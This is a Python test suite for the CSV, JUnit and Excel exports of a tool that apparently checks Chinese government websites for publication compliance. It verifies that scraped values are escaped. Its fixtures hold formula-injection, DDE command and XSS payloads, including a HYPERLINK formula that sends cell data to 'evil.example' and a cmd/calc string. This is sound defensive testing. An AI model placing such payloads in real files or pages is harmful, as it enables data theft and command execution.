"""The exports (CSV, JUnit XML, XLSX 整改清单) and `checker report`, read back by their own tools:
the csv module, a JUnit parser, openpyxl, and the CLI through click's CliRunner.

The sample result is made more hostile here: an item whose scraped texts are spreadsheet
formulas and carry control characters, a `javascript:` first evidence URL, and a waiver.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from junitparser import Error, Failure, JUnitXml, Skipped

from checker.report.cli import report
from checker.report.csv_export import COLUMNS, render_csv, write_csv
from checker.report.formats import DEFAULT_NAMES, FORMATS, UnknownFormat, write_report
from checker.report.json_report import read_json, write_json
from checker.report.junit import render_junit, write_junit
from checker.report.tabular import NO_LEAD_UNIT
from checker.report.xlsx import ALL_SHEET, TODO_SHEET, write_xlsx
from checker.results import CheckResult, Evidence, ItemResult, ScanResult, Status, WaiverNote

from .sample import BIDI, BLOCKED_REASON, MANUAL_REASON, SCRIPT, SITE, sample_result

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+86 0352-1234567"
MINUS = "-2+3"
CONTROLS = "\x00\x07\x1b\x0b\ufffe"
HOSTILE_UNIT = "+区大数据中心"
WAIVED_REASON = "栏目由市级平台集约建设，本站不单独设置"


def _hostile_items() -> list[ItemResult]:
    failing = ItemResult(
        number="99", name=FORMULA, group=MINUS, content=f"{AT_FORMULA}{CONTROLS} 要求在门户网站公开",
        lead_unit=HOSTILE_UNIT, units=PLUS, deadline_text="2024年6月30日前", deadline=date(2024, 6, 30),
        status=Status.FAIL, checks=[CheckResult(
            check_id="hostile.check", kind="text_matches", title=f"{SCRIPT}标题", status=Status.FAIL,
            summary=f"{FORMULA}{CONTROLS}未找到", fingerprint="hostile.check:99",
            evidence=[Evidence(url="javascript:alert(1)", found=SCRIPT, context=f"{CONTROLS}{BIDI}"),
                      Evidence(url=f"{SITE}/zwgk/x.html", http_status=200)],
        )],
    )
    waived = ItemResult(
        number="98", name="政务服务事项", group="基础信息公开", content="公开政务服务事项清单。",
        lead_unit="区行政审批局", status=Status.NOT_APPLICABLE,
        waiver=WaiverNote(status="not_applicable", reason=WAIVED_REASON, author="张三",
                          expires=date(2025, 6, 30), original_status=Status.FAIL),
        checks=[CheckResult(check_id="service.list", kind="exists", title="政务服务事项清单存在",
                            status=Status.NOT_APPLICABLE, summary="已豁免", fingerprint="service.list:98")],
    )
    return [failing, waived]


@pytest.fixture(scope="module")
def result() -> ScanResult:
    base = sample_result()
    first = base.profiles[0]
    profiles = [first.model_copy(update={"items": [*first.items, *_hostile_items()]}), *base.profiles[1:]]
    return base.model_copy(update={"profiles": profiles, "site": "pingcheng"})


@pytest.fixture(scope="module")
def result_file(result, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("scan") / "result.json"
    write_json(result, path)
    return path


def _items(result: ScanResult):
    return [(p, i) for p in result.profiles for i in p.items]


# ------------------------------------------------------------------------------------ CSV


def _read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_has_one_row_per_item_per_profile_with_chinese_intact(result, tmp_path):
    path = tmp_path / "items.csv"
    write_csv(result, path)
    rows = _read_csv(path)
    assert tuple(rows[0]) == COLUMNS
    assert [(r["profile"], r["number"]) for r in rows] == [(p.id, i.number) for p, i in _items(result)]
    by_key = {(r["profile"], r["number"]): r for r in rows}

    annual = by_key["pingcheng-2024", "14"]
    assert annual["name"] == "政府信息公开年报"
    assert (annual["status"], annual["status_label"]) == ("fail", "未通过")
    assert (annual["veto"], annual["weight"]) == ("yes", "1")
    assert (annual["deadline_text"], annual["deadline"]) == ("2024年1月31日前", "2024-01-31")
    assert annual["finding"] == "年报发布于 2024-02-06，晚于 2024-01-31"
    assert annual["evidence_url"] == f"{SITE}/zwgk/ndbg/202402/t20240206_9.html"
    assert by_key["pingcheng-2024", "26"]["weight"] == "2"

    blocked = by_key["pingcheng-2024", "7"]
    assert blocked["status_label"] == "无法判断" and BLOCKED_REASON in blocked["finding"]
    assert by_key["pingcheng-2024", "1"]["finding"] == MANUAL_REASON
    # Item 6 fails on a check without evidence; its passing check's page is not the finding's URL.
    assert by_key["pingcheng-2024", "6"]["evidence_url"] == ""

    waived = by_key["pingcheng-2024", "98"]
    assert WAIVED_REASON in waived["waiver"] and "张三" in waived["waiver"] and "2025-06-30" in waived["waiver"]
    assert "未通过" in waived["waiver"]  # what the checker found before the waiver
    assert by_key["pingcheng-2024", "14"]["waiver"] == ""


def test_csv_neutralises_formulas_and_drops_control_characters(result):
    rows = list(csv.DictReader(io.StringIO(render_csv(result), newline="")))
    cells = [v for r in rows for v in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    hostile = next(r for r in rows if r["number"] == "99")
    assert hostile["name"] == "'" + FORMULA
    assert hostile["group"] == "'" + MINUS
    assert hostile["units"] == "'" + PLUS
    assert hostile["lead_unit"] == "'" + HOSTILE_UNIT
    assert hostile["finding"] == "'" + FORMULA + "未找到"  # controls gone, text otherwise kept
    assert hostile["evidence_url"] == "javascript:alert(1)"  # text in a CSV: nothing is a link
    assert not any(ch in "".join(cells) for ch in CONTROLS)


# ---------------------------------------------------------------------------------- JUnit


def test_junit_parses_with_per_suite_counts(result, tmp_path):
    path = tmp_path / "junit.xml"
    write_junit(result, path)
    xml = JUnitXml.fromfile(str(path))
    suites = {s.name: s for s in xml}
    assert list(suites) == [p.id for p in result.profiles]
    for profile in result.profiles:
        suite = suites[profile.id]
        n = {s: sum(i.status == s for i in profile.items) for s in Status}
        assert (suite.tests, suite.failures, suite.errors, suite.skipped) == (
            len(profile.items), n[Status.FAIL], n[Status.UNKNOWN], n[Status.MANUAL] + n[Status.NOT_APPLICABLE])
        cases = list(suite)
        assert [c.name for c in cases] == [f"{i.number} {i.name}" for i in profile.items]
        assert {c.classname for c in cases} == {profile.id}
        expected = {Status.FAIL: Failure, Status.UNKNOWN: Error, Status.MANUAL: Skipped,
                    Status.NOT_APPLICABLE: Skipped}
        for case, item in zip(cases, profile.items, strict=True):
            kinds = [type(r) for r in case.result]
            assert kinds == ([expected[item.status]] if item.status in expected else []), item.number
    # The pingcheng sample has failures, errors and skips, so the counts above are not all zero.
    ping = suites["pingcheng-2024"]
    assert ping.failures >= 5 and ping.errors >= 1 and ping.skipped >= 3
    assert (xml.tests, xml.failures) == (sum(len(p.items) for p in result.profiles),
                                          sum(p.counts.fail for p in result.profiles) + 1)


def test_junit_messages_carry_summaries_reasons_and_evidence(result):
    xml = JUnitXml.fromstring(render_junit(result).encode("utf-8"))
    cases = {(c.classname, c.name.split(" ")[0]): c for s in xml for c in s}

    annual = cases["pingcheng-2024", "14"].result[0]
    assert annual.message == "年报发布于 2024-02-06，晚于 2024-01-31"
    assert f"{SITE}/zwgk/ndbg/202402/t20240206_9.html" in annual.text
    assert "完成时限：2024年1月31日前" in annual.text

    blocked = cases["pingcheng-2024", "7"].result[0]
    assert BLOCKED_REASON in blocked.message and f"{SITE}/zwgk/sgs/" in blocked.text

    manual = cases["pingcheng-2024", "1"].result[0]
    assert isinstance(manual, Skipped) and manual.message == MANUAL_REASON

    waived = cases["pingcheng-2024", "98"].result[0]
    assert isinstance(waived, Skipped) and WAIVED_REASON in waived.text

    # 60 broken links: the body lists some and says where the rest are.
    links = cases["pingcheng-2024", "38"].result[0].text
    assert links.count("证据：") == 10 and "另有 50 条" in links


def test_junit_escapes_markup_and_removes_illegal_characters(result):
    text = render_junit(result)
    root = ET.fromstring(text.encode("utf-8"))  # a second, strict parser
    hostile = next(c for c in root.iter("testcase") if c.get("name").startswith("99 "))
    failure = hostile.find("failure")
    assert failure.get("message") == FORMULA + "未找到"
    assert SCRIPT in failure.text  # scraped markup is text, escaped in the file
    assert "<script>" not in text
    assert not any(ch in text for ch in CONTROLS)
    assert f'{SITE}/zwgk/gfxwj/?q="><script>alert(2)</script>' in next(
        c for c in root.iter("testcase") if c.get("name").startswith("26 ")).find("failure").text


# ----------------------------------------------------------------------------------- XLSX


def _todo_groups(ws) -> dict[str, list[str]]:
    groups: dict[str, list[str]] = {}
    unit = None
    for row in ws.iter_rows(min_row=4):
        first = row[0].value
        if isinstance(first, str) and first.startswith(("牵头单位：", "'牵头单位：")):
            unit = first.lstrip("'").removeprefix("牵头单位：").rsplit("（", 1)[0]
            groups[unit] = []
        elif first is not None:
            groups[unit].append(f"{first}/{row[1].value}")
    return groups


def test_xlsx_lists_failing_and_unknown_items_by_lead_unit(result, tmp_path):
    path = tmp_path / "remediation.xlsx"
    write_xlsx(result, path)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [TODO_SHEET, ALL_SHEET]
    ws = wb[TODO_SHEET]

    expected: dict[str, list[str]] = {}
    for p, i in _items(result):
        if i.status in (Status.FAIL, Status.UNKNOWN):
            expected.setdefault(i.lead_unit or NO_LEAD_UNIT, []).append(f"{p.id}/{i.number}")
    got = _todo_groups(ws)
    assert got == expected
    assert list(got)[-1] == NO_LEAD_UNIT and "'" + HOSTILE_UNIT not in got  # heading read back unescaped
    assert HOSTILE_UNIT in got and set(got["区政府办"]) == {"pingcheng-2024/26", "pingcheng-2024/28"}

    assert "pingcheng" in ws["A1"].value and "2024-11-20" in ws["A1"].value
    assert "不完整" in ws["A2"].value  # a partial scan says so above the list
    header = [c.value for c in ws[3]]
    assert header[:7] == ["指标体系", "序号", "事项", "工作要求", "状态", "问题描述", "证据链接"]
    assert all(c.font.bold for c in ws[3] if c.value)
    assert ws.freeze_panes == "A4"
    assert ws.column_dimensions["D"].width >= 40  # the requirement column is readable
    annual = next(r for r in ws.iter_rows(min_row=4) if r[1].value == "14")
    assert annual[3].alignment.wrap_text
    assert annual[8].value == datetime(2024, 1, 31)  # a real date, sortable
    assert annual[7].value == "2024年1月31日前"


def test_xlsx_links_only_http_and_neutralises_formulas(result, tmp_path):
    path = tmp_path / "remediation.xlsx"
    write_xlsx(result, path)
    wb = openpyxl.load_workbook(path)
    todo = wb[TODO_SHEET]
    link_col = [c.value for c in todo[3]].index("证据链接")
    rows = {r[1].value: r for r in todo.iter_rows(min_row=4) if r[1].value}

    annual = rows["14"][link_col]
    assert annual.hyperlink.target == annual.value == f"{SITE}/zwgk/ndbg/202402/t20240206_9.html"
    hostile = rows["99"][link_col]
    assert hostile.value == "javascript:alert(1)" and hostile.hyperlink is None
    links = [c.hyperlink.target for ws in wb for row in ws.iter_rows() for c in row if c.hyperlink]
    assert links and all(t.startswith(("http://", "https://")) for t in links)

    assert rows["99"][2].value == "'" + FORMULA
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", c.coordinate
                if isinstance(c.value, str):
                    assert c.value[:1] not in ("=", "+", "-", "@"), (ws.title, c.coordinate)

    every = wb[ALL_SHEET]
    assert every.freeze_panes == "A4" and every.auto_filter.ref
    numbers = [r[1].value for r in every.iter_rows(min_row=4)]
    assert numbers == [i.number for _, i in _items(result)]
    waived = next(r for r in every.iter_rows(min_row=4) if r[1].value == "98")
    assert WAIVED_REASON in waived[-1].value

    # openpyxl writes some characters XML forbids without complaint; every part must still parse.
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                ET.fromstring(z.read(name))


def test_xlsx_of_a_clean_scan_says_there_is_nothing_to_fix(tmp_path):
    clean = sample_result("complete")
    profiles = [p.model_copy(update={"items": [i for i in p.items if i.status not in (Status.FAIL, Status.UNKNOWN)]})
                for p in clean.profiles]
    path = tmp_path / "r.xlsx"
    write_xlsx(clean.model_copy(update={"profiles": profiles}), path)
    ws = openpyxl.load_workbook(path)[TODO_SHEET]
    assert ws["A4"].value == "无未通过或无法判断的事项。" and ws.max_row == 4


# --------------------------------------------------------------------- registry and CLI


def test_registry_writes_every_format_to_a_folder(result, tmp_path):
    assert set(FORMATS) == {"html", "json", "csv", "junit", "xlsx"}
    written = {fmt: write_report(result, fmt, tmp_path) for fmt in FORMATS}
    assert {fmt: p.name for fmt, p in written.items()} == DEFAULT_NAMES
    assert read_json(written["json"]) == result
    # Extras are for the scorecard; the tabular formats take and ignore them.
    assert write_report(result, "csv", tmp_path / "x.csv", screenshots={}) == tmp_path / "x.csv"
    with pytest.raises(UnknownFormat):
        write_report(result, "pdf", tmp_path)


def _check_output(fmt: str, path: Path, result: ScanResult) -> None:
    if fmt == "html":
        text = path.read_text(encoding="utf-8")
        assert text.lstrip().lower().startswith("<!doctype html") and "政府信息公开年报" in text
    elif fmt == "json":
        assert read_json(path) == result
    elif fmt == "csv":
        assert len(_read_csv(path)) == len(_items(result))
    elif fmt == "junit":
        assert JUnitXml.fromfile(str(path)).tests == len(_items(result))
    elif fmt == "xlsx":
        assert openpyxl.load_workbook(path).sheetnames == [TODO_SHEET, ALL_SHEET]


@pytest.mark.parametrize("fmt", sorted(FORMATS))
def test_report_command_renders_each_format(fmt, result, result_file, tmp_path):
    out = tmp_path / f"report.{fmt}"
    run = CliRunner().invoke(report, [str(result_file), "--format", fmt, "--out", str(out)])
    assert run.exit_code == 0, run.output
    assert str(out) in run.output
    _check_output(fmt, out, result)


def test_report_command_writes_several_formats_beside_the_result(result, result_file):
    before = result_file.read_bytes()
    run = CliRunner().invoke(report, [str(result_file), "-f", "csv", "-f", "junit", "-f", "xlsx", "-f", "json"])
    assert run.exit_code == 0, run.output
    folder = result_file.parent
    for fmt in ("csv", "junit", "xlsx"):
        _check_output(fmt, folder / DEFAULT_NAMES[fmt], result)
    assert result_file.read_bytes() == before and "left as it is" in run.output


def test_report_command_all_formats_into_a_new_folder(result, result_file, tmp_path):
    out = tmp_path / "new" / "reports"
    run = CliRunner().invoke(report, [str(result_file), "--format", "all", "--out", str(out)])
    assert run.exit_code == 0, run.output
    assert sorted(p.name for p in out.iterdir()) == sorted(DEFAULT_NAMES.values())


def test_report_command_trailing_slash_means_a_new_folder(result, result_file, tmp_path):
    out = tmp_path / "later"
    run = CliRunner().invoke(report, [str(result_file), "-f", "xlsx", "-o", f"{out}/"])
    assert run.exit_code == 0, run.output
    _check_output("xlsx", out / DEFAULT_NAMES["xlsx"], result)


@pytest.mark.parametrize("content, expected", [
    (b"<html>not json</html>", "not a valid result.json"),
    (b'{"schema_version": "1.1", "tool": "x"}', "profiles"),
    (json.dumps({"schema_version": "9.0", "tool": "x", "future": 1}).encode(), "schema 9.0"),
    (b"", "not a valid result.json"),
])
def test_report_command_rejects_a_malformed_result(content, expected, tmp_path):
    bad = tmp_path / "result.json"
    bad.write_bytes(content)
    run = CliRunner().invoke(report, [str(bad), "--format", "csv", "--out", str(tmp_path / "x.csv")])
    assert run.exit_code == 2
    assert expected in run.stderr and "Traceback" not in run.output
    assert not (tmp_path / "x.csv").exists()


def test_report_command_usage_errors(result_file, tmp_path):
    missing = CliRunner().invoke(report, [str(tmp_path / "nope.json"), "--format", "csv"])
    assert missing.exit_code == 2
    unknown = CliRunner().invoke(report, [str(result_file), "--format", "pdf"])
    assert unknown.exit_code == 2 and "pdf" in unknown.output
    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    several = CliRunner().invoke(report, [str(result_file), "-f", "csv", "-f", "xlsx", "--out", str(a_file)])
    assert several.exit_code == 2 and "folder" in several.stderr
